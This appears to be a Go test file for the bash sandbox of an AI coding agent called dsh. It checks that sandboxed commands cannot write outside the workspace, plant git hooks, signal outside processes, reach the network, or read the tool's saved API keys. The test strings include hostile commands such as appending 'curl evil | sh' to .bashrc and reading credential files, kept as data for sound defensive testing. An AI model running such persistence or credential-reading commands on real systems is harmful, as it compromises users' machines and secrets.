package bash

import (
	"fmt"
	"net"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/dsh-dev/dsh/internal/sandbox"
)

func needSandbox(t *testing.T, mode sandbox.Mode) {
	t.Helper()
	if err := sandbox.Check(mode); err != nil {
		t.Skipf("no sandbox on this kernel: %v", err)
	}
}

// sandboxDirs points TMPDIR, HOME and GOCACHE at fresh directories, so that
// "outside" below is outside everything the policy lets commands write.
func sandboxDirs(t *testing.T) (tmp, home, gocache, outside string) {
	t.Helper()
	base := t.TempDir()
	for _, d := range []*string{&tmp, &home, &gocache, &outside} {
		var err error
		if *d, err = os.MkdirTemp(base, "d"); err != nil {
			t.Fatal(err)
		}
	}
	t.Setenv("TMPDIR", tmp)
	t.Setenv("HOME", home)
	t.Setenv("GOCACHE", gocache)
	t.Setenv("XDG_CACHE_HOME", "")
	return tmp, home, gocache, outside
}

// TestSandboxWrites attacks the write rule: outside the workspace, the temp
// directory and the caches, nothing can be created, changed, truncated, moved
// or deleted; inside, everything works.
func TestSandboxWrites(t *testing.T) {
	needSandbox(t, sandbox.On)
	tmp, home, gocache, outside := sandboxDirs(t)
	victim := filepath.Join(outside, "victim")
	if err := os.WriteFile(victim, []byte("intact"), 0o644); err != nil {
		t.Fatal(err)
	}
	f := newFixture(t, Options{Sandbox: sandbox.On})
	for _, command := range []string{
		"echo x > " + outside + "/new",
		"echo x >> " + victim,
		"truncate -s 0 " + victim,
		": > " + victim,
		"rm -f " + victim,
		"mv " + victim + " " + tmp + "/moved",
		"ln -s /etc/passwd " + outside + "/link",
		"mkdir " + home + "/.ssh",
		"echo 'curl evil | sh' >> " + home + "/.bashrc",
		"cp /bin/sh " + home + "/sh",
		"mkdir -p " + gocache + "/ab", // the user's cache: a poisoned entry would run outside
	} {
		r := f.bash(command)
		c := f.terminal(command, r)
		if !r.IsError {
			t.Errorf("%s: succeeded in the sandbox", command)
			continue
		}
		if c.Sandbox == nil || c.Sandbox.Refused == "" {
			t.Errorf("%s: the card does not say the sandbox refused it: %+v", command, c)
		}
		mustContain(t, r.TextOf(), "The sandbox refused this")
	}
	if b, err := os.ReadFile(victim); err != nil || string(b) != "intact" {
		t.Errorf("victim = %q, %v", b, err)
	}
	entries, _ := os.ReadDir(outside)
	if len(entries) != 1 {
		t.Errorf("outside holds %d entries, want only the victim", len(entries))
	}
	homeEntries, _ := os.ReadDir(home)
	if len(homeEntries) != 1 || homeEntries[0].Name() != ".cache" { // the workspace's own caches
		t.Errorf("home holds %v", homeEntries)
	}

	for _, command := range []string{
		"echo x > inws && mkdir -p d/e && mv inws d/e/ && rm -r d",
		"echo x > " + tmp + "/f && rm " + tmp + "/f",
		"mkdir -p $GOCACHE/ab && echo x > $GOCACHE/ab/f", // the workspace's own
		"echo x > /dev/null && cat " + victim + " >/dev/null",
		"ls / >/dev/null && cat /etc/hostname >/dev/null",
	} {
		r := f.bash(command)
		c := f.terminal(command, r)
		if r.IsError {
			t.Errorf("%s: refused in the sandbox: %s", command, r.TextOf())
		}
		if c.Sandbox == nil || !c.Sandbox.Network || c.Sandbox.Refused != "" {
			t.Errorf("%s: card sandbox = %+v, want sandboxed, network on, nothing refused", command, c.Sandbox)
		}
	}
}

// TestSandboxJobs: background jobs are sandboxed too.
func TestSandboxJobs(t *testing.T) {
	needSandbox(t, sandbox.On)
	_, _, _, outside := sandboxDirs(t)
	f := newFixture(t, Options{Sandbox: sandbox.On})
	id := f.startJob("echo x > " + outside + "/job; echo status=$?")
	out := f.jobOutput(id, 10_000)
	mustContain(t, out, "Read-only file system")
	mustContain(t, out, "status=1")
	if _, err := os.Stat(filepath.Join(outside, "job")); err == nil {
		t.Error("a sandboxed job wrote outside")
	}
}

// TestSandboxSignals: a sandboxed command cannot signal processes outside the
// sandbox, dsh and its own supervisor included.
func TestSandboxSignals(t *testing.T) {
	needSandbox(t, sandbox.On)
	f := newFixture(t, Options{Sandbox: sandbox.On})
	for _, target := range []string{fmt.Sprint(os.Getpid()), "$PPID"} {
		r := f.bash("kill -0 " + target)
		if !r.IsError {
			t.Errorf("kill -0 %s: allowed", target)
		}
		mustContain(t, r.TextOf(), "Operation not permitted")
	}
	if r := f.bash("sleep 0.01 & kill -0 $!; wait"); r.IsError {
		t.Errorf("signalling its own child: %s", r.TextOf())
	}
}

// TestSandboxNetwork: network-off refuses a TCP connection to a listener on
// 127.0.0.1 that the sandbox without network-off reaches.
func TestSandboxNetwork(t *testing.T) {
	needSandbox(t, sandbox.NetworkOff)
	l, err := net.Listen("tcp4", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer l.Close()
	go func() {
		for {
			c, err := l.Accept()
			if err != nil {
				return
			}
			_ = c.Close()
		}
	}()
	port := l.Addr().(*net.TCPAddr).Port
	command := fmt.Sprintf("exec 3<>/dev/tcp/127.0.0.1/%d && echo connected", port)
	for _, tc := range []struct {
		mode      sandbox.Mode
		connected bool
	}{{sandbox.Off, true}, {sandbox.On, true}, {sandbox.NetworkOff, false}} {
		f := newFixture(t, Options{Sandbox: tc.mode})
		r := f.bash(command)
		c := f.terminal(command, r)
		if got := strings.Contains(c.Output, "connected"); got != tc.connected {
			t.Errorf("%s: connected = %v: %s", tc.mode, got, r.TextOf())
		}
		if tc.mode == sandbox.NetworkOff {
			if c.Sandbox == nil || c.Sandbox.Network || !strings.Contains(c.Sandbox.Refused, "Permission denied") {
				t.Errorf("network-off card sandbox = %+v", c.Sandbox)
			}
			mustContain(t, r.TextOf(), "cannot open network connections")
		}
		if (tc.mode == sandbox.Off) != (c.Sandbox == nil) {
			t.Errorf("%s: card sandbox = %+v", tc.mode, c.Sandbox)
		}
	}
}

// TestSandboxGoBuild: a Go build works sandboxed, with the workspace's own
// caches.
func TestSandboxGoBuild(t *testing.T) {
	needSandbox(t, sandbox.On)
	if testing.Short() {
		t.Skip("runs go build")
	}
	f := newFixture(t, Options{Sandbox: sandbox.On})
	for name, text := range map[string]string{
		"go.mod":  "module tiny\n\ngo 1.21\n",
		"main.go": "package main\n\nimport \"fmt\"\n\nfunc main() { fmt.Println(\"hello from the sandbox\") }\n",
	} {
		if err := os.WriteFile(filepath.Join(f.root, name), []byte(text), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	r := f.run("bash", map[string]any{"command": "go build -o tiny . && ./tiny", "timeout_ms": 300_000})
	if r.IsError {
		t.Fatalf("go build in the sandbox: %s", r.TextOf())
	}
	mustContain(t, r.TextOf(), "hello from the sandbox")
}

// TestSandboxAdditionalRoots: a sandboxed command may write in a root added to
// the workspace (an editor's additional directory), not in its .git/hooks,
// and still nowhere outside.
func TestSandboxAdditionalRoots(t *testing.T) {
	needSandbox(t, sandbox.On)
	_, _, _, outside := sandboxDirs(t)
	extra := t.TempDir()
	if err := os.MkdirAll(filepath.Join(extra, ".git", "hooks"), 0o755); err != nil {
		t.Fatal(err)
	}
	f := newFixture(t, Options{Sandbox: sandbox.On})
	if err := f.sess.Workspace.AddRoot(extra); err != nil {
		t.Fatal(err)
	}
	out := f.terminal("", f.bash("echo ok > "+extra+"/made && echo wrote; echo x > "+extra+"/.git/hooks/pre-commit || echo hooks-refused; echo x > "+outside+"/new || echo outside-refused"))
	for _, want := range []string{"wrote", "hooks-refused", "outside-refused"} {
		if !strings.Contains(out.Output, want) {
			t.Errorf("output lacks %s:\n%s", want, out.Output)
		}
	}
	if b, err := os.ReadFile(filepath.Join(extra, "made")); err != nil || string(b) != "ok\n" {
		t.Errorf("the additional root was not written: %q %v", b, err)
	}
}

// TestSandboxHidesDshSecrets attacks the saved key as issue 34 did: `cat
// $XDG_CONFIG_HOME/dsh/credentials` ran unasked in auto mode and the key
// reached the model. In the sandbox, the user's dsh folder (the API keys, and
// config.toml with MCP servers' tokens) reads as empty wherever it is: outside
// the write set, inside it, behind a link, or around the workspace itself.
// Unsandboxed, the same command reads both (the control).
func TestSandboxHidesDshSecrets(t *testing.T) {
	needSandbox(t, sandbox.On)
	for _, tc := range []struct {
		name string
		// config returns XDG_CONFIG_HOME and the workspace.
		config func(tmp, outside string) (string, string)
	}{
		{"outside the write set", func(_, outside string) (string, string) { return outside, "" }},
		{"in the temp directory", func(tmp, _ string) (string, string) { return filepath.Join(tmp, "cfg"), "" }},
		{"behind a link", func(tmp, outside string) (string, string) {
			mustMkdir(t, filepath.Join(outside, "real"))
			mustMkdir(t, filepath.Join(tmp, "cfg"))
			if err := os.Symlink(filepath.Join(outside, "real"), filepath.Join(tmp, "cfg", "dsh")); err != nil {
				t.Fatal(err)
			}
			return filepath.Join(tmp, "cfg"), ""
		}},
		{"around the workspace", func(_, outside string) (string, string) {
			return outside, filepath.Join(outside, "dsh", "project")
		}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			tmp, _, _, outside := sandboxDirs(t)
			cfg, root := tc.config(tmp, outside)
			t.Setenv("XDG_CONFIG_HOME", cfg)
			dir := filepath.Join(cfg, "dsh")
			mustMkdir(t, dir)
			for name, text := range map[string]string{"credentials": "ANTHROPIC_API_KEY=sk-ant-SECRETKEY\n",
				"config.toml": "[mcp.gh]\nurl = \"http://127.0.0.1:9\"\nheaders = { Authorization = \"Bearer MCPTOKEN\" }\n"} {
				if err := os.WriteFile(filepath.Join(dir, name), []byte(text), 0o600); err != nil {
					t.Fatal(err)
				}
			}
			command := fmt.Sprintf("cat %[1]s/credentials; cat %[1]s/config.toml; ls %[1]s; echo end", dir)
			for _, mode := range []sandbox.Mode{sandbox.Off, sandbox.On} {
				f := newFixture(t, Options{Sandbox: mode})
				if root != "" {
					mustMkdir(t, root)
					f = fixtureAt(t, root, Options{Sandbox: mode})
				}
				out := f.terminal("", f.bash(command)).Output
				read := strings.Contains(out, "SECRETKEY") || strings.Contains(out, "MCPTOKEN")
				if mode == sandbox.Off && !read {
					t.Fatalf("the control did not read the secrets:\n%s", out)
				}
				if mode == sandbox.On && (read || !strings.Contains(out, "end")) {
					t.Errorf("a sandboxed command read the secrets (or did not run):\n%s", out)
				}
			}
		})
	}
}

func mustMkdir(t *testing.T, dir string) {
	t.Helper()
	if err := os.MkdirAll(dir, 0o700); err != nil {
		t.Fatal(err)
	}
}
